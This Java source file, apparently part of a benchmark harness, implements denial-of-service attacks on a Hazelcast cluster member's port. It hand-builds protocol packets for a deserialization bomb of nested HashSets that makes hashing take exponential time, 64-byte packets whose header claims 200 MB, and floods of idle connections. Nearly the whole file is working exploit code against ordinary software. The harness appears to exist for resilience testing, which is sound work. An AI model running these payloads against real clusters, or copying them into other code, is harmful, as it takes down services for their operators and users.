package io.wabascope.benchmarks.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.Socket;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.LongAdder;

/** Attacks on the port of a cluster member, in Hazelcast's protocol between members. */
final class ClusterAttacks {
  private static final int CLAIMS = 20;
  private static final int CLAIMED_BYTES = 200 << 20;
  private static final int OBJECTS = 4;
  private static final int LEVELS = 100;
  private static final int OPERATION = 1 << 0 | 1 << 7;
  private static final int JAVA_OBJECT = -100;

  private ClusterAttacks() {}

  static List<Attack> all(AttackPlan plan, int port) {
    int idle = plan.sizes().idle();
    return List.of(
        new Attack("4: nested HashSet, from a member's address", false, attackers -> {
          byte[] packet = nestedSets();
          for (int i = 0; i < OBJECTS; i++) {
            attackers.keep(Attackers.connectFromAgent(port)).getOutputStream().write(packet);
          }
          return OBJECTS;
        }),
        new Attack(
            "5a: 64 bytes that claim 200 MB, %d times".formatted(CLAIMS), false, attackers -> {
              byte[] packet = claim();
              LongAdder sent = new LongAdder();
              attackers.atOnce(CLAIMS, i -> {
                Socket socket = attackers.keep(Attackers.connect(i, port));
                sent.increment();
                socket.getOutputStream().write(packet);
              });
              return sent.sum();
            }),
        new Attack(
            "5b: %s idle connections".formatted(HttpAttacks.number(idle)), false, attackers -> {
              LongAdder sent = new LongAdder();
              attackers.atOnce(idle, i -> {
                attackers.keep(Attackers.connect(i, port));
                sent.increment();
              });
              return sent.sum();
            }));
  }

  /** A packet of 64 bytes whose header announces a much larger one. */
  private static byte[] claim() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    header(new DataOutputStream(bytes), CLAIMED_BYTES);
    bytes.writeBytes(new byte[64 - bytes.size()]);
    return bytes.toByteArray();
  }

  /** Each level is held twice by the one above, so that its hash takes twice as long. */
  private static byte[] nestedSets() throws IOException {
    Set<Object> top = new HashSet<>();
    Set<Object> one = top;
    Set<Object> other = new HashSet<>();
    for (int level = 0; level < LEVELS; level++) {
      Set<Object> left = new HashSet<>(List.of("left"));
      Set<Object> right = new HashSet<>(List.of("right"));
      one.addAll(List.of(left, right));
      other.addAll(List.of(left, right));
      one = left;
      other = right;
    }
    ByteArrayOutputStream object = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(object)) {
      out.writeObject(top);
    }
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream packet = new DataOutputStream(bytes);
    header(packet, object.size() + 8);
    packet.writeInt(0); // hash of the partition
    packet.writeInt(JAVA_OBJECT);
    object.writeTo(packet);
    return bytes.toByteArray();
  }

  private static void header(DataOutputStream out, int size) throws IOException {
    out.write("HZC".getBytes(US_ASCII));
    out.writeByte(4);
    out.writeChar(OPERATION);
    out.writeInt(-1);
    out.writeInt(size);
  }
}
